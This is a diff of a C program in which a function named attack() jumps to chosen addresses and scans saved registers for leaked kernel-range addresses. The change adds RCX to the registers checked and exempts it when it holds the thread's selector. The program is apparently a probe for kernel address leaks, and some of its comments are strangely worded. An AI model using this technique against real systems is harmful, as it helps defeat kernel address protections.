@@ -31,13 +31,15 @@ static void jump(uintptr_t to, uintptr_t stack, uintptr_t flags)
 		     : : "r"(rsp), "r"(rip), "r"(eflags) : "memory");
 }
 
-/* Those of `seen` that the entries have no reason to change before they believe: RBP, R10, R12 to R15. They hold the 0 of the jump,
+/* Those of `seen` that the entries have no reason to change before they believe: RCX, RBP, R10, R12 to R15. They hold the 0 of the jump,
  * or, after one into the way out, what the program had at its last call. */
-static const int untouched[] = {6, 9, 11, 12, 13, 14};
+static const int untouched[] = {2, 6, 9, 11, 12, 13, 14};
 
-static int is_the_kernels(uint64_t value)
+/* Not inlined: its constants would stay in registers that a later jump finds again. */
+__attribute__((noinline)) static int is_the_kernels(int which, uint64_t value)
 {
-	return value > 0x7fffffffffff || (value >= KERNEL && value < KERNEL_END);
+	/* RCX may be the address of the thread's selector, which is no secret. */
+	return value > 0x7fffffffffff || (which != 2 && value >= KERNEL && value < KERNEL_END);
 }
 
 static int attack(void)
@@ -59,8 +61,8 @@ static int attack(void)
 					/* Kept out of registers, as the jump changes them all. */
 					if (sigsetjmp(landing, 1)) {
 						jumping = 0;
-						for (int i = 0; i < 6; i++)
-							if (is_the_kernels(seen[untouched[i]]))
+						for (int i = 0; i < 7; i++)
+							if (is_the_kernels(untouched[i], seen[untouched[i]]))
 								return 0;
 						continue;
 					}
